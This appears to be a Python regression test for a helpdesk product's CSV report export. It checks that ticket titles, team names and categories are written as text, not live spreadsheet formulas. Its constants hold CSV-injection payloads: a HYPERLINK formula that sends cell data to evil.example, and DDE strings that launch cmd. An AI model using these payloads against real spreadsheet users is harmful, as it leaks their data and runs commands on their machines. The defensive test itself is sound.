"""Issue #13: a requester's ticket title `=HYPERLINK(...)` reached the manager's spreadsheet as a live formula.

Every CSV the product writes goes through helpdesk/core/spreadsheet.py; here the real export job writes the SLA
report (ticket titles and team names in the breach list) and the times report (category and team names as chart
labels) for a manager, and no cell may start as a formula.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from sqlalchemy import text

from helpdesk.core.db import session_scope
from helpdesk.models.base import utcnow
from helpdesk.reports import exports, rollups
from helpdesk.reports.filters import parse_filters
from helpdesk.reports.rollups import local_today
from helpdesk.tickets import tickets
from tests.factories import Org, draft

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")'
TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"
CATEGORY = "+cmd|' /C notepad'!A0"


def _export(org: Org, report: str) -> list[list[str]]:
    with session_scope() as session:
        export = exports.request_export(session, org.actor(org.mona), report, "csv", parse_filters({}, local_today()))
        session.flush()
        export_id = export.id
    exports.run_export(export_id)  # what the Celery `reports` job runs
    with session_scope() as session:
        _name, content_type, payload = exports.export_payload(session, org.actor(org.mona), export_id)
    assert content_type.startswith("text/csv")
    return list(csv.reader(io.StringIO(payload.decode("utf-8"))))


def test_a_requesters_formula_title_reaches_the_managers_csv_as_text(org: Org) -> None:
    with session_scope() as session:
        session.execute(text("UPDATE teams SET name = :name WHERE id = :id"), {"name": TEAM, "id": org.hardware_team})
        session.execute(text("UPDATE categories SET name = :name WHERE id = :id"),
                        {"name": CATEGORY, "id": org.hardware})
        ticket = tickets.create_ticket(session, org.actor(org.alice), draft(title=TITLE, category_id=org.hardware))
        ticket_id = ticket.id
    missed = utcnow() - timedelta(minutes=30)
    with session_scope() as session:  # answered late (the SLA scan flagged it), then resolved
        session.execute(text("UPDATE tickets SET sla_first_response_due = :at, sla_first_response_breached_at = :at, "
                             "first_responded_at = now(), resolved_at = now(), status = 'resolved', "
                             "updated_at = now() WHERE id = :id"), {"at": missed, "id": ticket_id})
    rollups.refresh_changed()

    sla = _export(org, "sla")
    times = _export(org, "times")

    cells = [cell for rows in (sla, times) for row in rows for cell in row]
    assert "'" + TITLE in cells, "the title is in the breach list, as text"
    assert "'" + TEAM in cells, "the team name is in the breach list, as text"
    assert "'" + CATEGORY in cells, "the category is a chart label of the times report, as text"
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert formulas == []


def test_a_late_duplicate_run_does_not_unfinish_a_finished_export(org: Org) -> None:
    """The export job and a retry (or a direct run) can overlap: the slower one's progress writes come after the
    faster one marked the export done, and the manager's download must stay available."""
    with session_scope() as session:
        export = exports.request_export(session, org.actor(org.mona), "volume", "csv", parse_filters({}, local_today()))
        session.flush()
        export_id = export.id
    exports.run_export(export_id)
    exports._set(export_id, status="running", progress=1, error="")  # the duplicate run starting late
    with session_scope() as session:
        _name, content_type, _payload = exports.export_payload(session, org.actor(org.mona), export_id)
    assert content_type.startswith("text/csv")
